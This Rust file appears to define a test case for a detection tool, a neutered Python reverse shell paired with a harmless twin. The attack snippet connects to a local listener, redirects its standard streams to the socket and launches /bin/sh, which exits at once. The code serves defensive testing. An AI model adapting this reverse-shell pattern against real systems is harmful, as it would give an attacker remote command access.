//! The reverse shell of a thousand tutorials.

use std::process::Command;

use crate::Attack;

const ATTACK_SCRIPT: &str = "
import os, socket, subprocess, sys
s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
for stream in (0, 1, 2):
    os.dup2(s.fileno(), stream)
subprocess.call(['/bin/sh', '-c', 'exit 0'])
";

const BENIGN_SCRIPT: &str = "
import socket, sys
socket.create_connection(('127.0.0.1', int(sys.argv[1]))).close()
";

pub(super) const ATTACK: Attack = Attack {
    name: "reverse-shell-python",
    rule: "Socket as standard stream",
    about: "Python connects, makes the socket its standard streams and starts a shell, which ends at once",
    twin: "Python connects and lets go, as nobody",
    attack: |stage| {
        let port = stage.listen(0)?.to_string();
        stage.must(Command::new(stage.tool("python3")?).args(["-c", ATTACK_SCRIPT, &port]))
    },
    benign: |stage| {
        let port = stage.listen(0)?.to_string();
        let mut python = Command::new(stage.tool("python3")?);
        python.args(["-c", BENIGN_SCRIPT, &port]);
        stage.must(&mut python)
    },
};
